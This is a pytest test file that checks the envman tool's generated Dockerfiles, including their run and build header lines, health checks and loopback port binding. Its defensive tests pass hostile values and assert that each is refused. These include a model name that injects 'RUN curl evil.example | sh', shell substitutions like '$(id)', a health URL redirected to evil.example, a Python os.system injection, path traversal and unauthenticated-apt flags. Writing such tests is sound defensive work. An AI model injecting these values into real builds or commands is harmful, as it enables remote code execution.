"""The committed Dockerfiles read on their own: what the header tells a user to paste agrees with
the instructions below it (not only with the renderer that wrote both), and values from the
matrix or images.toml that would break a line, a shell word or a URL are refused."""

from __future__ import annotations

import ast
import dataclasses
import json
import os
import re
import shlex
import subprocess
from pathlib import Path

import pytest
from packaging.version import Version

from envman.docker import dockerfile as df
from envman.errors import EnvmanError
from envman.matrix.combinations import Combination
from envman.matrix.schema import Matrix
from tests.docker_images.conftest import REPO, Cli

COMMITTED = sorted((REPO / "dockerfiles").glob("*.Dockerfile"))
XLLAMACPP = Combination("xllamacpp", Version("2026.10.11549"), "cpu")


def _instruction(text: str, word: str) -> str:
    """The arguments of the one instruction ``word`` (continuation lines joined)."""
    found, lines = [], iter(text.splitlines())
    for line in lines:
        if line.startswith(word + " "):
            joined = line
            while joined.endswith("\\"):
                joined = joined[:-1] + next(lines)
            found.append(joined[len(word) + 1 :].strip())
    assert len(found) == 1, (word, found)
    return found[0]


def _labels(text: str) -> dict[str, str]:
    return dict(re.findall(r'(\S+)="((?:[^"\\]|\\.)*)"', _instruction(text, "LABEL")))


def _served(cmd: list[str]) -> tuple[str, str]:
    """What the CMD loads (the path under /models) and the name it serves it as."""
    if "--register" in cmd:  # the Xinference launcher registers the weights and launches them under a uid
        spec = json.loads(cmd[cmd.index("--register") + 1])["model_specs"][0]
        uid: str = json.loads(cmd[cmd.index("--launch") + 1])["model_uid"]
        return f"{spec['model_uri']}/{spec['model_file_name_template']}", uid
    name_flags = [f for f in ("--served-model-name", "--model-name", "--model_alias") if f in cmd]
    (weights,) = [word for word in cmd if word.startswith("/models/")]
    return weights, cmd[cmd.index(name_flags[0]) + 1]


def _comment_after(text: str, prefix: str) -> str:
    line = next(line for line in text.splitlines() if line.startswith(prefix))
    return line[len(prefix) :].strip()


def test_the_committed_set_is_the_known_good_set(real_matrix: Matrix) -> None:
    from envman.matrix.combinations import frontend_known_good, known_good

    pairs = known_good(real_matrix) + frontend_known_good(real_matrix)  # Xinference over xllamacpp too
    assert {p.name for p in COMMITTED} == {df.filename(c) for c in pairs}
    assert {"vllm-0.32.0-cuda.Dockerfile", "xllamacpp-2026.10.11549-cpu.Dockerfile"} <= {p.name for p in COMMITTED}


@pytest.mark.parametrize("path", COMMITTED, ids=lambda p: p.name)
def test_the_run_line_is_a_command_that_serves_what_the_cmd_serves(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    labels = _labels(text)
    tag = argv_tag(labels)
    cmd = json.loads(_instruction(text, "CMD"))
    port = _instruction(text, "EXPOSE")
    assert port in cmd  # each engine names its port option differently (--port, --server-port)
    weights, served_name = _served(cmd)

    argv = shlex.split(_comment_after(text, "# run:"))
    assert argv[:3] == ["docker", "run", "--rm"]
    assert argv[-1] == tag
    options = dict(zip(argv[3:-1:2], argv[4:-1:2], strict=True))
    assert options["-p"] == f"127.0.0.1:{port}:{port}"  # published on loopback only, like `envman up`
    host, target, mode = options["-v"].split(":")
    assert (host, mode) == ("$WEIGHTS", "ro")
    assert target.startswith("/models/") or target == "/models"
    assert weights == target or (weights.endswith(".gguf") and weights.rsplit("/", 1)[0] == target)
    if labels["io.envman.variant"] == "cuda":
        assert options["--gpus"] == "all"
    else:
        assert "--gpus" not in options
    # the raw line keeps $WEIGHTS expandable: double-quoted, not single-quoted
    assert '-v "$WEIGHTS":' in _comment_after(text, "# run:")

    details = " ".join(
        line[1:].strip() for line in text.splitlines()[:12] if line.startswith("#        ")
    )  # the lines under `# run:`
    assert f"it serves {weights} as {served_name} on http://127.0.0.1:{port}/v1" in details
    assert "WEIGHTS" in details
    assert "::" not in text.split("\nARG ")[0]
    assert " ;" not in text.split("\nARG ")[0]


@pytest.mark.parametrize("path", COMMITTED, ids=lambda p: p.name)
def test_the_build_line_builds_this_file(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    labels = _labels(text)
    argv = shlex.split(_comment_after(text, "# build:"))
    assert argv[:2] == ["envman", "build"]
    assert argv[2] == labels["io.envman.smoke-model"]
    options = dict(zip(argv[4::2], argv[5::2], strict=True))
    assert argv[3] == "--docker"
    assert options["--engine"] == labels["io.envman.engine"]
    assert options["--version"] == labels["io.envman.version"]
    assert options.get("--frontend") == labels.get("io.envman.frontend")
    # planned for the host the file was rendered for: a CUDA file is not built as the CPU variant on a CPU box
    assert (options["--hardware"] == "cpu") == (labels["io.envman.variant"] == "cpu")
    docker = shlex.split(_comment_after(text, "#    or, from a checkout:"))
    assert docker == ["docker", "build", "-f", f"dockerfiles/{path.name}", "-t", argv_tag(labels), "."]


def argv_tag(labels: dict[str, str]) -> str:
    engine = f"{labels['io.envman.engine']}:{labels['io.envman.version']}-{labels['io.envman.variant']}"
    if "io.envman.frontend" in labels:  # envman/xinference:4.1.0-xllamacpp-2026.10.11549-cpu
        name, _, version = labels["io.envman.frontend"].partition("==")
        return f"envman/{name}:{version}-{engine.replace(':', '-')}"
    return f"envman/{engine}"


@pytest.mark.parametrize("path", COMMITTED, ids=lambda p: p.name)
def test_the_healthcheck_is_one_call_to_the_loopback_ready_url(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    health = _instruction(text, "HEALTHCHECK")
    argv = json.loads(health.split(" CMD ", 1)[1])
    assert argv[:2] == ["python", "-c"]
    module = ast.parse(argv[2])
    calls = [node for node in ast.walk(module) if isinstance(node, ast.Call)]
    assert len(calls) == 1
    url = calls[0].args[0]
    assert isinstance(url, ast.Constant)
    assert re.fullmatch(rf"http://127\.0\.0\.1:{_instruction(text, 'EXPOSE')}/[a-z0-9/._-]+", url.value)


# -- values that would break the header, a shell word or a URL -------------------------------


def _renamed_smoke_model(tmp_path: Path, name: str) -> dict[str, str]:
    text = (REPO / "matrix.toml").read_text(encoding="utf-8")
    hostile = text.replace("[models.smoke-gemma3]", f"[models.{json.dumps(name)}]")
    assert hostile != text
    (tmp_path / "matrix.toml").write_text(hostile, encoding="utf-8")
    return {
        "ENVMAN_MATRIX": str(tmp_path / "matrix.toml"),
        "ENVMAN_LOCKFILES": str(REPO / "lockfiles"),
        "ENVMAN_DOCKERFILES": str(tmp_path / "dockerfiles"),
    }


@pytest.mark.parametrize("name", ["smoke-gemma3:rw", "smoke gemma3", "smoke$(id)", "smoke,gemma3", "smoke'3"])
def test_a_model_name_that_breaks_the_mount_is_refused(cli: Cli, tmp_path: Path, name: str) -> None:
    result = cli("dockerfile", "--engine", "vllm", "--variant", "cpu", env=_renamed_smoke_model(tmp_path, name))
    assert result.returncode == 2, result.stdout + result.stderr
    message = " ".join(result.stderr.split())
    # refused where the name is read (matrix.toml's model names), or failing that by the renderer
    assert (
        "a name (letters, digits, '.', '_', '-'" in message
        or f"error: weights path {'/models/' + name!r} cannot be a mount target in a `docker run -v`" in message
    ), message
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "dockerfiles").exists() or not list((tmp_path / "dockerfiles").iterdir())


def test_a_model_name_with_a_newline_is_refused_naming_the_header(cli: Cli, tmp_path: Path) -> None:
    env = _renamed_smoke_model(tmp_path, "smoke-gemma3\nRUN curl evil.example | sh\n#")
    result = cli("dockerfile", "--engine", "xllamacpp", env=env)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "contains a control character" in result.stderr or "a name (letters, digits" in result.stderr
    assert not (tmp_path / "dockerfiles").exists() or not list((tmp_path / "dockerfiles").iterdir())


@pytest.fixture
def target(real_matrix: Matrix) -> df.Target:
    return df.target_for(real_matrix, XLLAMACPP, lock_dir=REPO / "lockfiles")


@pytest.mark.parametrize(
    "ready_path",
    ["@evil.example/health", "/health'); import os; os.system('id') #", "health", "/health?x=1#y"],
)
def test_a_ready_path_that_is_not_a_plain_path_is_refused(target: df.Target, ready_path: str) -> None:
    """``http://127.0.0.1:8000@evil.example/health`` would send the health check to another host."""
    with pytest.raises(EnvmanError, match="is not a plain URL path"):
        df.render(dataclasses.replace(target, ready_path=ready_path))


@pytest.mark.parametrize("package", ["--allow-unauthenticated", "-oAPT::Get::AllowUnauthenticated=1", "a b", "Lib"])
def test_a_system_package_that_is_not_a_debian_name_is_refused(target: df.Target, package: str) -> None:
    with pytest.raises(EnvmanError, match="is not a Debian package name"):
        df.render(dataclasses.replace(target, packages=(*target.packages, package)))


@pytest.mark.parametrize("name", ["envman_x; rm", "../../etc/passwd", "envman x"])
def test_a_launcher_name_that_is_not_a_module_is_refused(target: df.Target, name: str) -> None:
    with pytest.raises(EnvmanError, match="is not a Python module name"):
        df.render(dataclasses.replace(target, launchers=(name,)))


def test_an_extra_ca_path_with_odd_characters_never_reaches_the_dockerfile(cli: Cli, tmp_path: Path) -> None:
    """The CA bundle is copied to a fixed name; the Dockerfile COPYs a fixed folder."""
    odd = tmp_path / "odd $(id) 'ca' \\ name.pem"
    odd.write_bytes(b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
    env = {"ENVMAN_DOCKERFILES": str(tmp_path / "dockerfiles")}
    result = cli("dockerfile", "--engine", "xllamacpp", "--extra-ca", str(odd), env=env)
    assert result.returncode == 0, result.stderr
    written = (tmp_path / "dockerfiles" / "xllamacpp-2026.10.11549-cpu.Dockerfile").read_bytes()
    assert written == (REPO / "dockerfiles" / "xllamacpp-2026.10.11549-cpu.Dockerfile").read_bytes()
    assert (tmp_path / "dockerfiles" / "extra-ca" / "envman-extra-ca.crt").is_file()


@pytest.mark.parametrize("path", COMMITTED, ids=lambda p: p.name)
def test_the_run_line_pastes_into_a_shell_and_mounts_what_the_cmd_serves(
    docker_daemon: str, path: Path, tmp_path: Path
) -> None:
    """The `# run:` line as a user pastes it, with two substitutions: the stand-in base image for the
    image (nothing is built here) followed by a check of the mount, and a free host port. A CUDA
    file's `--gpus all` is left out: this daemon has no NVIDIA runtime."""
    import socket

    text = path.read_text(encoding="utf-8")
    weights, _ = _served(json.loads(_instruction(text, "CMD")))
    line = _comment_after(text, "# run:")
    tag = shlex.split(line)[-1]
    host = tmp_path / "weights"
    if weights.endswith(".gguf"):  # WEIGHTS: the folder holding the file
        host.mkdir()
        (host / weights.rsplit("/", 1)[1]).write_bytes(b"GGUF")
    else:  # WEIGHTS: the model's folder
        host.mkdir()
        (host / "config.json").write_text("{}", encoding="utf-8")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        free = probe.getsockname()[1]
    port = _instruction(text, "EXPOSE")
    line = line.replace(f"-p 127.0.0.1:{port}:{port}", f"-p 127.0.0.1:{free}:{port}").replace("--gpus all ", "")
    mount = weights.rsplit("/", 1)[0] if weights.endswith(".gguf") else weights
    seen = weights if weights.endswith(".gguf") else f"{weights}/config.json"  # the host's file, not an empty volume
    check = f"test -e {seen} && ! touch {mount}/written 2>/dev/null && echo mounted-read-only"
    assert line.endswith(" " + tag)
    line = line.removesuffix(tag) + f"{docker_daemon} sh -c {shlex.quote(check)}"
    result = subprocess.run(
        ["bash", "-c", line], env={**os.environ, "WEIGHTS": str(host)}, capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, line + "\n" + result.stderr
    assert result.stdout.strip() == "mounted-read-only"


def test_an_unwritable_dockerfiles_folder_is_a_prerequisite_error(cli: Cli, tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("", encoding="utf-8")
    result = cli("dockerfile", "--engine", "xllamacpp", env={"ENVMAN_DOCKERFILES": str(blocker / "dockerfiles")})
    assert result.returncode == 3, result.stderr
    assert f"error: cannot create the folder {blocker / 'dockerfiles'}" in result.stderr
    assert "Traceback" not in result.stderr
